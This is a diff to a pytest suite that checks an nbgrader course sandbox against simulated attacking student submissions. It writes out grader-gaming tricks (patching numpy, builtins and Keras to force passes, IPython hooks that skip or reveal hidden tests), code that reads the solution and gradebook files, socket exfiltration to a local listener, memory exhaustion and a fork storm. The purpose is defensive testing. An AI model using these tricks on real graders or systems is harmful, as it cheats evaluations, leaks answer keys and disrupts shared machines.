@@ -720,6 +720,22 @@ def make_submissions(root, assignment, students):
         nbformat.write(nb, folder / f"{name}.ipynb")
 
 
+def feedback_text(path):
+    """A feedback page's text as a reader sees it (tags removed, entities decoded)."""
+    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
+
+
+def hidden_lines(assignment, root):
+    """The hidden tests of an exercise, line by line."""
+    source = notebook.load_notebook(solution_notebook(assignment, root))
+    return [
+        line.strip()
+        for cell in source["cells"]
+        for line in notebook.hidden_tests(notebook.cell_source(cell))
+        if line.strip()
+    ]
+
+
 def exported_scores(root):
     run_nbgrader(root, "export", "--to", str(root / "grades.csv"))
     with open(root / "grades.csv", newline="") as file:
@@ -771,23 +787,382 @@ def test_nbgrader_grades_each_simulated_student_exactly_and_the_same_twice(tmp_p
 
     # feedback: the visible checks are there, the hidden ones nowhere, not even in tracebacks
     page = root / "grading" / "feedback" / "wrong_normalisation" / EX01 / f"{EX01}.html"
-    text = html.unescape(re.sub(r"<[^>]+>", "", page.read_text()))
+    text = feedback_text(page)
     assert "checks.check_normalize(normalize)" in text
     assert "CheckFailed" in text
-    source = notebook.load_notebook(solution_notebook(EX01, root))
-    secret = [
-        line.strip()
-        for cell in source["cells"]
-        for line in notebook.hidden_tests(notebook.cell_source(cell))
-        if line.strip()
+    secret = hidden_lines(EX01, root)
+    pages = sorted((root / "grading" / "feedback").glob(f"*/{EX01}/{EX01}.html"))
+    assert len(pages) == len([key for key in EXPECTED if key[0] == EX01]) - 1  # not `renamed`
+    assert secret and not [
+        (page, line) for page in pages for line in secret if line in feedback_text(page)
     ]
-    assert secret and not [line for line in secret if line in text]
 
     # grading again from scratch gives the same scores and leaves the submissions as they were
     again = autograde(root, EX01, "--timeout", "15", "--force")
     assert again.returncode == 0, again.stdout + again.stderr
     assert exported_scores(root) == scores
     assert tree_digest(root / "grading" / "submitted") == submitted
+
+
+# ---------------------------------------------------------------------------------------------
+# Submissions that attack the grading
+
+# Each trick as a student writes it: (exercise, where, source[, last]). "own" puts it in a cell
+# of the student's own right after the setup cell; a grade_id appends it to that answer cell;
+# ``last``, where given, is a cell the student adds at the end. The sources are
+# string.Template texts: $solutions and $gradebook are the course's files, $port a port the
+# test listens on, $sleep the unique argument of the forked processes' sleep.
+TRICKS = {
+    # rewrite every later cell that mentions the checks into `pass` (IPython only)
+    "input_transformer": (
+        EX01,
+        "split_labels",
+        """
+def _skip_checks(lines):
+    return ["pass\\n"] if any("checks" in line for line in lines) else lines
+
+
+get_ipython().input_transformers_cleanup.append(_skip_checks)
+""",
+    ),
+    # print every later cell's source, hidden tests included, into the outputs (IPython only)
+    "event_hook": (
+        EX01,
+        "own",
+        """
+def _show_cell(info):
+    print(info.raw_cell)
+
+
+get_ipython().events.register("pre_run_cell", _show_cell)
+""",
+    ),
+    # watch every frame that runs after this cell, to see the checks and their inputs
+    "trace": (
+        EX01,
+        "own",
+        """
+import sys
+
+_frames = set()
+
+
+def _watch(frame, event, arg):
+    _frames.add(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
+    return _watch
+
+
+sys.settrace(_watch)
+sys.setprofile(_watch)
+""",
+        # a cell at the end: which code of the checks ran where the tracer could see it
+        "_seen = sorted(_frames)\n"
+        'print("code of the checks seen:", [f for f in _seen if "/checks/" in f])',
+    ),
+    # every comparison of arrays passes
+    "numpy": (
+        EX01,
+        "normalize",
+        """
+import sys
+import types
+
+import numpy.testing
+
+np.allclose = np.array_equal = lambda *args, **kwargs: True
+numpy.testing.assert_allclose = lambda *args, **kwargs: None
+sys.modules["numpy.testing"] = types.ModuleType("numpy.testing")
+""",
+    ),
+    # every type and every length is what a check expects
+    "builtins": (
+        EX01,
+        "one_hot",
+        """
+import builtins
+
+builtins.isinstance = lambda value, kind: True
+builtins.len = lambda value: 60000
+print("len('abc') is", len("abc"))
+""",
+    ),
+    # read the model answers and the hidden tests, print them and keep them
+    "reads_course": (
+        EX01,
+        "own",
+        """
+_read = {}
+for _path in [$solutions, $gradebook]:
+    try:
+        with open(_path, "rb") as _file:
+            _read[_path] = _file.read().decode(errors="replace")
+    except OSError as _error:
+        _read[_path] = f"{type(_error).__name__}: {_error}"
+print(_read)
+""",
+    ),
+    # send a greeting, then each input a check gives normalize, to a server of one's own
+    "network": (
+        EX01,
+        "normalize",
+        """
+import socket
+
+
+def _send(data):
+    try:
+        with socket.create_connection(("127.0.0.1", $port), timeout=5) as connection:
+            connection.sendall(repr(data).encode())
+    except OSError as error:
+        print("no connection:", error)
+
+
+_send("hello")
+_normalize = normalize
+
+
+def normalize(x):
+    _send(x)
+    return _normalize(x)
+""",
+    ),
+    # far more memory than the machine has (24 GiB), at once and 256 MiB at a time
+    "memory": (
+        EX01,
+        "own",
+        """
+try:
+    _hoard = bytearray(64 * 2**30)
+except MemoryError:
+    print("bytearray(64 GiB): MemoryError")
+try:
+    _hoard = [np.empty(2**25) for _ in range(2048)]
+except MemoryError:
+    print("512 GiB, 256 MiB at a time: MemoryError")
+_hoard = np.ones(8 * 2**30)
+""",
+    ),
+    # 300 processes that leave the process group and sleep for a minute
+    "forks": (
+        EX01,
+        "own",
+        """
+import os
+
+_forked = 0
+for _ in range(300):
+    try:
+        _pid = os.fork()
+    except OSError as _error:
+        print("fork:", _error)
+        break
+    if _pid == 0:
+        try:
+            os.setsid()
+            os.execv("/bin/sleep", ["sleep", "$sleep"])
+        finally:
+            os._exit(0)
+    _forked += 1
+print("forked", _forked)
+""",
+    ),
+    # every model has the expected size and a perfect test accuracy
+    "keras": (
+        EX02,
+        "build_mlp",
+        """
+keras.Model.count_params = lambda self: 55050
+keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 1.0]
+""",
+    ),
+}
+
+FULL_MARKS = {EX01: 6, EX02: 5}
+
+HARM_ONLY = {"reads_course", "network", "memory", "forks"}
+"""Tricks that seek to read, send or harm, not to change a score: tried on a correct
+submission only (the untouched release would meet the same walls)."""
+
+ATTACKS_SEEN = {
+    # what each trick met in the student's process, in its notebook's outputs
+    "input_transformer": "'Shell' object has no attribute 'input_transformers_cleanup'",
+    "event_hook": "'Shell' object has no attribute 'events'",
+    "trace": "code of the checks seen: []",
+    "builtins": "len('abc') is 60000",
+    "reads_course": "FileNotFoundError: [Errno 2] No such file or directory",
+    "network": "no connection: [Errno 111] Connection refused",
+    "memory": "bytearray(64 GiB): MemoryError\n512 GiB, 256 MiB at a time: MemoryError",
+    "forks": "fork: [Errno 1] Operation not permitted\nforked 0",
+}
+
+
+def variants(trick):
+    """The submissions a trick is tried on: the untouched release, a correct one, or both."""
+    return ("full",) if trick in HARM_ONLY else ("untouched", "full")
+
+
+ATTACKS_EXPECTED = {
+    (exercise, f"{trick}_{variant}"): FULL_MARKS[exercise] if variant == "full" else 0
+    for trick, (exercise, *_) in TRICKS.items()
+    for variant in variants(trick)
+}
+"""A trick on the untouched release scores 0, on a correct submission full marks."""
+
+
+def full_submission(released, answers):
+    """The released notebook with every model answer filled in."""
+    nb = nbformat.from_dict(released)
+    for grade_id, answer in answers.items():
+        notebook.find_cell(nb, grade_id).source = answer
+    return nb
+
+
+def make_attacks(root, **values):
+    """Write each trick, on the untouched release and on a correct submission (see
+    :func:`variants`), as a student ``<trick>_untouched`` or ``<trick>_full``; ``values``
+    fill in the tricks' templates."""
+    import string
+
+    values = {name: repr(str(value)) for name, value in values.items()}
+    values["sleep"] = values["sleep"].strip("'")
+    for trick, (assignment, where, template, *last) in TRICKS.items():
+        released = nbformat.read(release_notebook(assignment, root), 4)
+        answers = notebook.model_answers(
+            notebook.load_notebook(solution_notebook(assignment, root))
+        )
+        source = string.Template(template).substitute(values).strip()
+        for variant in variants(trick):
+            nb = full_submission(released, answers) if variant == "full" else released
+            nb = nbformat.from_dict(nb)
+            if where == "own":
+                setup = nb.cells.index(notebook.find_cell(nb, "setup"))
+                nb.cells.insert(setup + 1, new_code_cell(source))
+            else:
+                notebook.find_cell(nb, where).source += "\n\n\n" + source
+            nb.cells += [new_code_cell(cell) for cell in last]
+            folder = root / "grading" / "submitted" / f"{trick}_{variant}" / assignment
+            folder.mkdir(parents=True)
+            nbformat.write(nb, folder / f"{assignment}.ipynb")
+
+
+def outputs_text(path):
+    """Everything a notebook's cells output, as one text: streams, results and errors."""
+    parts = []
+    for cell in nbformat.read(path, 4).cells:
+        for output in cell.get("outputs", []):
+            parts += [output.get("text", ""), output.get("ename", ""), output.get("evalue", "")]
+            parts += output.get("traceback", [])
+            parts += [str(value) for value in output.get("data", {}).values()]
+    return "\n".join(parts)
+
+
+class Listener:
+    """A TCP server on a free port of 127.0.0.1 that records whoever connects and what they
+    send, until stopped."""
+
+    def __init__(self):
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.socket.settimeout(0.2)
+        self.port = self.socket.getsockname()[1]
+        self.received = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self):
+        while not self._stop.is_set():
+            try:
+                connection, _ = self.socket.accept()
+            except TimeoutError:
+                continue
+            with connection:
+                connection.settimeout(2)
+                with contextlib.suppress(OSError):
+                    self.received.append(connection.recv(1000))
+
+    def stop(self):
+        self._stop.set()
+        self._thread.join()
+        self.socket.close()
+
+
+def processes_running(argv):
+    """The ids of the processes on this machine whose command line is exactly ``argv``."""
+    found = []
+    wanted = "\0".join(argv).encode() + b"\0"
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            with contextlib.suppress(OSError):
+                if (entry / "cmdline").read_bytes() == wanted:
+                    found.append(int(entry.name))
+    return found
+
+
+@pytest.mark.nbgrader
+def test_nbgrader_grades_each_attacking_submission_by_its_answers_alone(tmp_path):
+    """Students who patch IPython, numpy, Keras or the builtins, trace the process, read the
+    course's files, open a connection, allocate far too much memory or fork hundreds of
+    processes get exactly what their answers earn; nothing of the hidden tests, the model
+    answers or the gradebook reaches a notebook or a feedback page; the others are graded."""
+    from mnist_course.sandbox import bubblewrap_status
+
+    works, why_not = bubblewrap_status()
+    if not works:  # the course's files and the network are hidden by bubblewrap only
+        message = f"bubblewrap cannot run here: {why_not}"
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+    root = tmp_path / "course"
+    root.mkdir()
+    shutil.copy(ROOT / "nbgrader_config.py", root)
+    for assignment in FULL_MARKS:
+        shutil.copytree(ROOT / "solutions" / assignment, root / "solutions" / assignment)
+        run_nbgrader(root, "generate_assignment", assignment)
+    sleep = ["sleep", f"60.{os.getpid()}{time.time_ns() % 10**6:06d}"]
+    listener = Listener()
+    make_attacks(
+        root,
+        solutions=solution_notebook(EX01, root),
+        gradebook=root / "grading" / "gradebook.db",
+        port=listener.port,
+        sleep=sleep[1],
+    )
+    try:
+        for assignment in FULL_MARKS:
+            graded = autograde(root, assignment)
+            assert graded.returncode == 0, graded.stdout + graded.stderr
+            students = {student for exercise, student in ATTACKS_EXPECTED if exercise == assignment}
+            assert reported_students(graded.stdout) == dict.fromkeys(students, "graded")
+            run_nbgrader(root, "generate_feedback", assignment)
+    finally:
+        listener.stop()
+    assert listener.received == []
+    assert processes_running(sleep) == []
+
+    scores = exported_scores(root)
+    assert {key: scores[key] for key in ATTACKS_EXPECTED} == {
+        key: float(value) for key, value in ATTACKS_EXPECTED.items()
+    }
+
+    # each trick ran, and met the sandbox where it tried
+    outputs = {
+        path.parents[1].name: outputs_text(path)
+        for path in (root / "grading" / "autograded").glob("*/*/*.ipynb")
+    }
+    for trick, expected in ATTACKS_SEEN.items():
+        for student in (f"{trick}_{variant}" for variant in variants(trick)):
+            assert expected in outputs[student], (student, outputs[student][:2000])
+
+    # no hidden test, no solution file, no gradebook in any output or feedback page
+    secrets = [*hidden_lines(EX01, root), *hidden_lines(EX02, root)]
+    secrets += [notebook.BEGIN_HIDDEN_TESTS, "SQLite format 3", "check_normalize(normalize, x="]
+    pages = sorted((root / "grading" / "feedback").glob("*/*/*.html"))
+    assert len(pages) == len(outputs) == len(ATTACKS_EXPECTED)
+    texts = {str(page): feedback_text(page) for page in pages}
+    assert all("checks.check_" in text for text in texts.values())  # the visible checks are
+    texts.update(outputs)
+    leaks = {(name, secret) for name, text in texts.items() for secret in secrets if secret in text}
+    assert not leaks
 
 
 # ---------------------------------------------------------------------------------------------
